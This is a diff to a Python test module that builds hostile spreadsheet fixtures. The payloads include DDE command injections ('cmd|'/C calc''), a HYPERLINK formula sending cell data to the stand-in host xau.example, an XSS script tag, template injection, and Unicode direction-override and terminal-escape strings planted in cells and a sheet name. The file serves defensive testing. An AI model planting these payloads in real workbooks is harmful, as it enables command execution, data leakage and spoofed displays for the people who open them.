@@ -5,7 +5,7 @@ from __future__ import annotations
 import unicodedata
 from collections.abc import Callable
 
-from tests.hostile.package import WorkbookPackage, set_text, set_xml
+from tests.hostile.package import WORKBOOK, WorkbookPackage, set_text, set_xml
 
 Change = Callable[[WorkbookPackage], None]
 
@@ -13,6 +13,9 @@ HYPERLINK = '=HYPERLINK("http://xau.example/?x="&A1,"Bấm vào đây")'
 COMMAND = "=cmd|'/C calc'!A0"
 SCRIPT = "<script>alert(1)</script>"
 TEMPLATE = "{{ 7 * 7 }}{% for x in y %}"
+# A direction override, an isolate, a control sequence of terminals, an escape as Excel writes it, line separators.
+UNPRINTABLE_TEXT = "Hết\u202e thảy\u2066 \x9b31mđỏ_x001B_[31m\u2028hai\x85ba\x7f"
+UNPRINTABLE_NAME = "\u202egnab\x9b31m"
 MARKUP = "[/bold][link=http://xau.example]x"
 INJECTIONS = (HYPERLINK, COMMAND, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1", "\r=1+1", SCRIPT, TEMPLATE, MARKUP)
@@ -113,3 +116,6 @@ def with_injections(package: WorkbookPackage) -> None:
     set_text(sheet.cell("@doc_number", "total"), COMMAND)
     for tab, column in (("TT", "note"), ("VM", "content"), ("KT", "content"), ("TV", "name")):
         set_text(package.sheets[tab].record(0, column), HYPERLINK)
+    for cell in (sheet.cell("Q05", "total"), package.sheets["VM"].record(0, "proposal")):
+        set_text(cell, f"{MARKUP} {UNPRINTABLE_TEXT}")
+    package.change(WORKBOOK, 'name="BC 6 tháng"'.encode(), f'name="BC 6 tháng {UNPRINTABLE_NAME}"'.encode())
